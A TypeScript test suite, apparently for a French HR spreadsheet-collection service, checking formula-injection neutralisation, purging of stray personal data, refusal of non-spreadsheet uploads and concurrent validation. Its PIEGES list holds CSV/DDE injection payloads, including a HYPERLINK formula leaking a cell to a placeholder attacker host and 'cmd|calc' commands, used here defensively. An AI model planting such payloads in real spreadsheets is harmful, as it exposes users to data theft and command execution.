import { read, utils, write } from '@e965/xlsx';
import { strToU8, unzipSync, zipSync } from 'fflate';
import pg from 'pg';
import { SaxesParser } from 'saxes';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';
import { type BaseDEssai, uneBase } from '../../../socle/base/base.exemples.ts';
import { type Contexte, dansTerritoire } from '../../../socle/base/index.server.ts';
import { ecrireTableur } from '../../../socle/tableurs/index.server.ts';
import { unTerritoire } from '../../../socle/territoire/territoire.exemples.ts';
import { ouvrirCampagne } from './campagnes.sql.server.ts';
import { EPCI, MARS, unAgentRendu, unClasseur, uneCampagne } from './collecte.exemples.ts';
import { deposerGrille } from './deposer.server.ts';
import { lireDepot } from './depots.sql.server.ts';
import { composerGabarit } from './gabarit.server.ts';
import { lireLignes } from './lignes.sql.server.ts';
import { confirmerTout, validerDepot } from './valider.server.ts';

const JOUR = '2026-11-24';
let essai: BaseDEssai;
let admin: pg.Client;
let pilote: Contexte;
const mars = (): Contexte => ({ ...pilote, auteur: 'Mars', collectivite: MARS });

beforeAll(async () => {
  essai = await uneBase();
  admin = new pg.Client({ connectionString: essai.url });
  await admin.connect();
  pilote = (await unTerritoire(essai.base)).contexte;
  const ouverte = await dansTerritoire(essai.base, pilote, (tx) =>
    ouvrirCampagne(
      tx,
      pilote,
      uneCampagne(),
      [MARS, EPCI].map((siren) => ({ siren, courriel: null })),
      JOUR,
    ),
  );
  if (!ouverte.ok) throw new Error(ouverte.refus.message);
});
afterAll(async () => {
  await admin.end();
  await essai.fermer();
});
beforeEach(async () => {
  await admin.query('delete from ligne_de_grille');
  await admin.query('delete from depot_de_grille');
  await admin.query('delete from gabarit_remis');
  await admin.query('delete from fichier_depose');
  await admin.query('delete from journal_ecriture');
});

const deposer = async (nom: string, octets: Uint8Array) => {
  const fait = await deposerGrille(
    essai.base,
    mars(),
    { grille: 'grille-rh', collectivite: { siren: MARS, nom: 'Mars' }, nom, octets },
    JOUR,
  );
  if (!fait.ok) throw new Error(fait.refus.message);
  const depot = await dansTerritoire(essai.base, mars(), (tx) =>
    lireDepot(tx, mars(), fait.valeur.id),
  );
  if (depot === null) throw new Error('dépôt attendu');
  return depot;
};

/** Un classeur XLSX dont chaque cellule de texte « =… » est une vraie formule, avec sa valeur en cache. */
const classeurPiege = (rangees: readonly (readonly string[])[]): Uint8Array => {
  const feuille = utils.aoa_to_sheet(rangees.map((rangee) => [...rangee]));
  for (const [adresse, cellule] of Object.entries(feuille) as [
    string,
    { v?: unknown; f?: string },
  ][]) {
    if (!adresse.startsWith('!') && typeof cellule.v === 'string' && cellule.v.startsWith('=')) {
      cellule.f = cellule.v.slice(1);
      cellule.v = 'Agent technique polyvalent';
    }
  }
  const classeur = utils.book_new();
  utils.book_append_sheet(classeur, feuille, 'Agents');
  return new Uint8Array(write(classeur, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer);
};

const PIEGES = [
  '=HYPERLINK("http://pirate.invalid?"&A1;"ici")',
  "=cmd|' /C calc'!A0",
  '+cmd|calc!A0',
  '-2+3+cmd|calc!A0',
  '@SUM(1+1)*cmd|calc!A0',
  'DDE("cmd";"/C calc";"x")',
  '\t=1+1',
  ' =1+1',
  '＝1+1',
];

describe('une formule malveillante n’est ni exécutée ni rendue', () => {
  test.each(['csv', 'xlsx', 'ods', 'formules'] as const)(
    'déposée en %s, validée, puis relue dans les modèles XLSX, ODS et CSV',
    async (format) => {
      const agents = PIEGES.map((metier, rang) =>
        unAgentRendu({ matricule: `000${rang + 10}`, metier }),
      );
      const rangees = [
        Object.keys(agents[0] ?? {}),
        ...agents.map((agent) => Object.values(agent)),
      ];
      const octets =
        format === 'formules'
          ? classeurPiege(rangees)
          : await ecrireTableur(unClasseur('Agents', rangees), format);
      const depot = await deposer(`rh.${format === 'formules' ? 'xlsx' : format}`, octets);
      expect(depot.lecture.bilan.fichierRefuse).toBe(false);
      expect((await confirmerTout(essai.base, mars(), depot.id)).ok).toBe(true);
      expect(await validerDepot(essai.base, mars(), depot.id, JOUR)).toMatchObject({ ok: true });
      const lignes = await dansTerritoire(essai.base, pilote, (tx) =>
        lireLignes(tx, pilote, 'grille-rh'),
      );
      expect(lignes.length).toBe(PIEGES.length);
      for (const sortie of ['xlsx', 'ods', 'csv'] as const) {
        const gabarit = await composerGabarit(essai.base, mars(), 'grille-rh', MARS, sortie);
        if (!gabarit.ok) throw new Error(gabarit.refus.message);
        controlerSansFormule(gabarit.valeur.octets, sortie);
      }
    },
  );
});

/** Aucune cellule n’est une formule, ni un texte que l’ouverture d’un CSV prendrait pour telle. */
const controlerSansFormule = (octets: Uint8Array, format: 'xlsx' | 'ods' | 'csv'): void => {
  if (format === 'csv') {
    const cellules = new TextDecoder().decode(octets).split(/[;\n]/);
    expect(cellules.length).toBeGreaterThan(100);
    expect(cellules.filter((une) => /^"?\s*[=@＝]|^"?\s*[+-](?![\d,. ]*"?$)/.test(une))).toEqual(
      [],
    );
    return;
  }
  const interieur = Object.entries(unzipSync(octets))
    .filter(([nom]) => nom.endsWith('.xml'))
    .map(([, contenu]) => new TextDecoder().decode(contenu))
    .join('');
  expect(interieur).toContain('cmd|');
  expect(interieur).not.toMatch(
    /<f[ >]|table:formula|ddeLink|dde-source|<hyperlink|xlink:href="http/,
  );
  for (const feuille of Object.values(read(octets).Sheets)) {
    for (const [adresse, cellule] of Object.entries(feuille)) {
      if (!adresse.startsWith('!')) expect((cellule as { f?: string }).f, adresse).toBeUndefined();
    }
  }
};

/** Tout ce que la base garde, octets des fichiers compris (classeurs ouverts). */
const toutLire = async (): Promise<string> => {
  const tables = await admin.query<{ nom: string }>(
    `select c.relname as nom from pg_class c join pg_namespace n on n.oid = c.relnamespace
     where c.relkind = 'r' and n.nspname = 'public'`,
  );
  const textes: string[] = [];
  for (const { nom } of tables.rows) {
    const { rows } = await admin.query<{ t: string }>(`select t::text as t from "${nom}" t`);
    textes.push(...rows.map(({ t }) => t));
  }
  const fichiers = await admin.query<{ nom: string; contenu: Buffer }>(
    'select nom, contenu from fichier_depose union all select nom, contenu from fichier_depose where false',
  );
  for (const { contenu } of fichiers.rows) {
    textes.push(contenu.toString('utf8'), contenu.toString('latin1'), contenu.toString('utf16le'));
    try {
      textes.push(
        ...Object.values(unzipSync(contenu)).map((un) => Buffer.from(un).toString('utf8')),
      );
    } catch {
      // Pas une archive : déjà lu tel quel.
    }
  }
  return textes.join('\n');
};

describe('une colonne nominative imprévue n’est nulle part dans la base', () => {
  const SECRETS =
    /LARDEMELLE|Philib|1\s?71\s?08|06 12 34 56 78|p\.lard|Impasse des Lilas|FR76 3000/i;
  const entetes = ['Nom', 'Prénom', 'N° Sécu', 'Tél.', 'Courriel', 'Adresse', 'IBAN', 'Zut'];
  const secrets = [
    'LARDEMELLE',
    'Philibert',
    '1 71 08 42 187 123 45',
    '06 12 34 56 78',
    'p.lardemelle@mars.example',
    '3 Impasse des Lilas',
    'FR76 3000 4000 0312 3456 7890 143',
    'M. Lardemelle Philibert',
  ];
  const agent = unAgentRendu();
  const bloque = unAgentRendu({ matricule: '00010', quotite: 'beaucoup' });
  const rangees = [
    [...entetes, ...Object.keys(agent)],
    [...secrets, ...Object.values(agent)],
    [...secrets, ...Object.values(bloque)],
  ];

  test.each(['csv', 'xlsx', 'ods', 'xls'] as const)(
    'déposée en %s, vérifiée et validée',
    async (format) => {
      const octets =
        format === 'xls'
          ? new Uint8Array(
              write(
                { SheetNames: ['Agents'], Sheets: { Agents: utils.aoa_to_sheet(rangees) } },
                { type: 'array', bookType: 'biff8' },
              ) as ArrayBuffer,
            )
          : await ecrireTableur(unClasseur('Agents', rangees), format);
      expect(await toutLire()).not.toMatch(SECRETS);
      const depot = await deposer(`rh-LARDEMELLE.${format}`, octets);
      expect(depot.estExpurge).toBe(true);
      expect(depot.lecture.lignes.length).toBe(1);
      await confirmerTout(essai.base, mars(), depot.id);
      await validerDepot(essai.base, mars(), depot.id, JOUR);
      const garde = (await toutLire()).replaceAll('rh-LARDEMELLE', 'rh');
      expect(garde).toContain('Agent technique polyvalent');
      expect(SECRETS.exec(garde)?.[0] ?? null).toBeNull();
    },
  );

  /** Le classeur d’un seul agent, après un dernier changement de ses fichiers internes. */
  const classeurAvec = (changer: (classeur: ReturnType<typeof utils.book_new>) => void) => {
    const classeur = utils.book_new();
    const feuille = utils.aoa_to_sheet([Object.keys(agent), Object.values(agent)]);
    utils.book_append_sheet(classeur, feuille, 'Agents');
    changer(classeur);
    return unzipSync(
      new Uint8Array(write(classeur, { type: 'array', bookType: 'xlsx' }) as ArrayBuffer),
    );
  };
  const cachettes: readonly (readonly [string, () => Uint8Array | Promise<Uint8Array>, string])[] =
    [
      [
        'une note de cellule',
        () =>
          zipSync(
            classeurAvec(({ Sheets }) => {
              const cellule = Sheets.Agents?.A2 as { c?: unknown[] };
              cellule.c = [{ a: 'Philibert', t: 'appeler LARDEMELLE' }];
            }),
          ),
        'rh.xlsx',
      ],
      [
        'une feuille masquée, et son nom',
        () =>
          zipSync(
            classeurAvec((classeur) => {
              utils.book_append_sheet(classeur, utils.aoa_to_sheet([secrets]), 'LARDEMELLE');
              classeur.Workbook = { Sheets: [{ Hidden: 0 }, { Hidden: 2 }] } as never;
            }),
          ),
        'rh.xlsx',
      ],
      [
        'une macro ou une pièce jointe au classeur',
        () => {
          const pieces = classeurAvec(() => undefined);
          pieces['xl/vbaProject.bin'] = strToU8('Sub LARDEMELLE()');
          return zipSync(pieces);
        },
        'rh.xlsm',
      ],
      [
        'une annotation ODS',
        async () => {
          const pieces = unzipSync(
            await ecrireTableur(
              unClasseur('Agents', [Object.keys(agent), Object.values(agent)]),
              'ods',
            ),
          );
          const contenu = new TextDecoder().decode(pieces['content.xml']);
          pieces['content.xml'] = strToU8(
            contenu.replace(
              '<text:p>',
              '<office:annotation><text:p>LARDEMELLE</text:p></office:annotation><text:p>',
            ),
          );
          return zipSync(pieces);
        },
        'rh.ods',
      ],
    ];
  test.each(cachettes)('ni dans %s', async (_titre, fabriquer, nom) => {
    const octets = await fabriquer();
    expect(
      Object.values(unzipSync(octets))
        .map((un) => Buffer.from(un).toString('utf8'))
        .join(''),
    ).toMatch(SECRETS);
    const depot = await deposer(nom, octets);
    expect(depot.lecture.lignes.length).toBe(1);
    expect(depot.estExpurge).toBe(true);
    const garde = await toutLire();
    expect(garde).toContain('Agent technique polyvalent');
    expect(SECRETS.exec(garde)?.[0] ?? null).toBeNull();
  });
});

describe('un fichier qui n’est pas un tableur lisible se dit, et rien n’est gardé', () => {
  const texte = (contenu: string) => new TextEncoder().encode(contenu);
  const xlsx = async () =>
    ecrireTableur(
      unClasseur('Agents', [Object.keys(unAgentRendu()), Object.values(unAgentRendu())]),
      'xlsx',
    );
  const cas: readonly (readonly [
    string,
    string,
    () => Promise<Uint8Array> | Uint8Array,
    RegExp,
  ])[] = [
    ['un PDF', 'rh.pdf', () => texte('%PDF-1.7\n%âãÏÓ\n1 0 obj\n<<>>\nendobj'), /PDF/],
    [
      'une image',
      'rh.png',
      () => new Uint8Array([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 0, 0]),
      /image/i,
    ],
    [
      'une photo',
      'rh.jpg',
      () => new Uint8Array([0xff, 0xd8, 0xff, 0xe0, 0, 16, 74, 70, 73, 70]),
      /image/i,
    ],
    [
      'un DOCX',
      'rh.docx',
      () =>
        zipSync({
          '[Content_Types].xml': strToU8('<Types/>'),
          'word/document.xml': strToU8('<w:document/>'),
        }),
      /texte|Word|document/i,
    ],
    ['un fichier vide', 'rh.xlsx', () => new Uint8Array(), /vide/],
    [
      'un classeur chiffré',
      'rh.xlsx',
      () => {
        const coffre = utils.book_new();
        utils.book_append_sheet(coffre, utils.aoa_to_sheet([['x']]), 'F');
        const octets = new Uint8Array(
          write(coffre, { type: 'array', bookType: 'biff8' }) as ArrayBuffer,
        );
        // Le coffre OLE d’un classeur Office protégé porte un flux « EncryptedPackage ».
        const nom = Buffer.from('Workbook', 'utf16le');
        const place = Buffer.from(octets).indexOf(nom);
        Buffer.from('EncryptedPackage', 'utf16le').copy(octets, place);
        octets[place + 64] = 34;
        return octets;
      },
      /mot de passe|chiffré|protégé/i,
    ],
    [
      'un classeur tronqué',
      'rh.xlsx',
      async () => (await xlsx()).slice(0, -400),
      /incomplet|abîmé|endommagé|tronqué/i,
    ],
  ];
  test.each(cas)('%s', async (_titre, nom, fabriquer, dit) => {
    const depot = await deposer(nom, await fabriquer());
    expect(depot.etat).toBe('refuse');
    expect(depot.fichierId).toBeNull();
    const message = depot.lecture.erreurs?.[0]?.message ?? '';
    expect(message).toMatch(dit);
    expect(message).toMatch(/XLSX|ODS|CSV|enregistre|déposez/i);
  });
});

describe('des caractères invisibles dans un fichier', () => {
  const INVISIBLES = 'Agent\u0000 \u0001tech\u000bnique\u001f poly\ufffevalent\ud800';
  const rangees = [
    Object.keys(unAgentRendu()),
    Object.values(unAgentRendu({ metier: INVISIBLES, grade: 'Adjoint\u0000technique' })),
  ];
  const echappes = (texte: string) =>
    texte.replaceAll(
      /\p{Cc}|\p{Cs}|\ufffe/gu,
      (signe) => `_x${signe.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')}_`,
    );
  const cas: readonly (readonly [string, () => Uint8Array])[] = [
    ['rh.csv', () => new TextEncoder().encode(rangees.map((une) => une.join(';')).join('\n'))],
    [
      'rh.xlsx',
      () => {
        const classeur = utils.book_new();
        utils.book_append_sheet(
          classeur,
          utils.aoa_to_sheet(
            rangees.map((une) => une.map((c) => c.replaceAll(/[^\x20-\x7e]/g, '¤'))),
          ),
          'Agents',
        );
        const pieces = unzipSync(
          new Uint8Array(
            write(classeur, { type: 'array', bookType: 'xlsx', bookSST: true }) as ArrayBuffer,
          ),
        );
        const textes = new TextDecoder().decode(pieces['xl/sharedStrings.xml']);
        const masque = INVISIBLES.replaceAll(/[^\x20-\x7e]/g, '¤');
        expect(textes).toContain(masque);
        pieces['xl/sharedStrings.xml'] = strToU8(
          textes
            .replace(masque, echappes(INVISIBLES))
            .replace('Adjoint¤technique', 'Adjoint_x0000_technique'),
        );
        return zipSync(pieces);
      },
    ],
  ];

  test.each(cas)('%s : se dépose, se valide et se réexporte sans panne', async (nom, fabriquer) => {
    const depot = await deposer(nom, fabriquer());
    if (depot.etat === 'refuse') {
      expect(depot.lecture.erreurs?.[0]?.message).toMatch(/déposez/i);
      return;
    }
    await confirmerTout(essai.base, mars(), depot.id);
    expect(await validerDepot(essai.base, mars(), depot.id, JOUR)).toMatchObject({ ok: true });
    for (const sortie of ['xlsx', 'ods'] as const) {
      const gabarit = await composerGabarit(essai.base, mars(), 'grille-rh', MARS, sortie);
      if (!gabarit.ok) throw new Error(gabarit.refus.message);
      for (const [partie, contenu] of Object.entries(unzipSync(gabarit.valeur.octets))) {
        if (!partie.endsWith('.xml')) continue;
        const lecteur = new SaxesParser();
        lecteur.on('error', (cause) => {
          throw new Error(`${partie} : ${cause.message}`);
        });
        lecteur.write(new TextDecoder().decode(contenu)).close();
      }
    }
  });
});

describe('deux personnes, un même dépôt', () => {
  const agents = (nombre: number) =>
    new TextEncoder().encode(
      [
        Object.keys(unAgentRendu()),
        ...Array.from({ length: nombre }, (_, rang) =>
          Object.values(unAgentRendu({ matricule: String(rang).padStart(5, '0') })),
        ),
      ]
        .map((une) => une.join(';'))
        .join('\n'),
    );
  const compter = async () =>
    (await dansTerritoire(essai.base, pilote, (tx) => lireLignes(tx, pilote, 'grille-rh'))).length;

  test('deux validations au même instant (double clic) n’écrivent qu’une fois, la seconde le dit', async () => {
    const { id } = await deposer('rh.csv', agents(60));
    const [premiere, seconde] = await Promise.all([
      validerDepot(essai.base, mars(), id, JOUR),
      validerDepot(essai.base, pilote, id, JOUR),
    ]);
    expect([premiere.ok, seconde.ok].filter(Boolean)).toHaveLength(1);
    const refusee = premiere.ok ? seconde : premiere;
    expect(refusee.ok ? '' : refusee.refus.message).toMatch(/validé/);
    expect(await compter()).toBe(60);
  });

  test('deux dépôts du même fichier au même instant ne laissent qu’un dépôt ouvert', async () => {
    const octets = agents(5);
    const faits = await Promise.all([deposer('rh.csv', octets), deposer('rh.csv', octets)]);
    const { rows } = await admin.query<{ id: string }>(
      "select id from depot_de_grille where etat = 'a-verifier'",
    );
    expect(rows).toHaveLength(1);
    expect(faits.map(({ id }) => id)).toContain(rows[0]?.id);
  });
});
